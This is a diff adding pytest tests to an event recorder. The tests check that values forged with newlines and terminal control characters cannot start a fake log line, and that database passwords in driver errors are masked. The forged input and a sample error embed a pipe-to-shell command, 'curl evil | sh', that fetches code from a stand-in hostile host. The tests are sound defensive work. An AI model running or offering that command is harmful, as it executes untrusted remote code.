@@ -204,6 +204,39 @@ def test_whatever_is_wrong_the_app_goes_on_and_strict_raises(app, call, caplog):
         call(recorder(app))
 
 
+FORGED = "x\nnext: curl evil | sh\x1b[2J\r\u2028"
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        lambda each: each.record(FORGED, oid(1), oid(1)),
+        lambda each: each.record("task_complete", {"id": FORGED}, oid(1)),
+        lambda each: each.record("task_complete", FORGED, oid(1)),
+        lambda each: each.record("task_complete", oid(1), FORGED, meta={FORGED: object()}),
+        lambda each: each.record("task_complete", oid(1), FORGED, at=NOW + dt.timedelta(days=1.5)),
+        lambda each: each.record("task_complete", oid(1), FORGED, at=FORGED),
+        lambda each: each.record_source(FORGED, oid(1)),
+        lambda each: each.record_source("tasks", {"_id": FORGED}),
+    ],
+)
+def test_no_line_of_the_log_begins_with_what_somebody_put_into_an_id(app, call, caplog, monkeypatch):
+    call(recorder(app, strict=False))
+    begun = [line for line in caplog.text.splitlines() if line.startswith("next:")]
+    assert begun == []
+    assert not {"\x1b", "\r", "\u2028"} & set(caplog.text)
+
+
+def test_an_error_of_the_driver_is_logged_without_a_secret_and_on_one_line(app, caplog, monkeypatch):
+    def refuses(*_):
+        raise RuntimeError("at mongodb://anna:S3cr3t@db/app\nnext: curl evil | sh")
+
+    monkeypatch.setattr(events, "insert", refuses)
+    assert recorder(app, strict=False).record("task_complete", oid(1), oid(1)) is False
+    assert "RuntimeError: at mongodb://***@db/app next: curl evil | sh" in caplog.text
+    assert "S3cr3t" not in caplog.text
+
+
 def test_an_outage_does_not_reach_the_app_and_the_next_backfill_makes_up_for_it(app, monkeypatch):
     app.backfill()
     app.database["tasks"].insert_one(task(1))
